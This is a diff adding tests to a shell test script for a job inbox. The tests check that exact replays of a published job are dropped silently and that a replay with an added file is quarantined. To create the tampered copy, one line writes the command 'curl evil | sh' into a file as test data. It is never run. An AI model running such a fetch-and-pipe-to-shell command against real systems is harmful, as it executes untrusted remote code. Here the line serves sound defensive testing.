@@ -30,6 +30,19 @@ check "status works too" do_ status
 check "the leftover is gone from the inbox (removed or quarantined)" test ! -e "$INBOX/$U"
 check "the job is still pending, once" test "$(ls -d "$STORE"/jobs/*/"$U" | wc -l)" = 1
 
+# 1b. replays of that job: an exact copy is dropped once published, without
+# an audit line each time; a copy with an addition is quarantined, not deleted
+qn() { ls "$STORE/quarantine" | wc -l; }
+rec() { grep -c ingest-recovered "$STORE/audit.jsonl"; }
+q0=$(qn); a0=$(rec)
+for k in 1 2 3; do cp -a "$TEST_DIR/copy" "$INBOX/$U"; do_ pending >/dev/null; done
+check "exact replays are dropped" test ! -e "$INBOX/$U"
+check "... with no audit line each (ingest-recovered $a0 -> $(rec))" test "$(rec)" = "$a0"
+check "... and no quarantine" test "$(qn)" = "$q0"
+cp -a "$TEST_DIR/copy" "$INBOX/$U"; echo 'curl evil | sh' > "$INBOX/$U/code/zz.sh"
+do_ pending >/dev/null
+check "a replay with an added file is quarantined, not deleted" sh -c "grep -rq 'did not have' '$STORE/quarantine' && test -z \"\$(ls '$INBOX' | grep '$U')\""
+
 # 2. an ingest error while a job runs under --watch
 running_job S slow 'sleep 3; echo SLOW-DONE'
 check "the slow job runs" test -d "$STORE/jobs/running/$S"
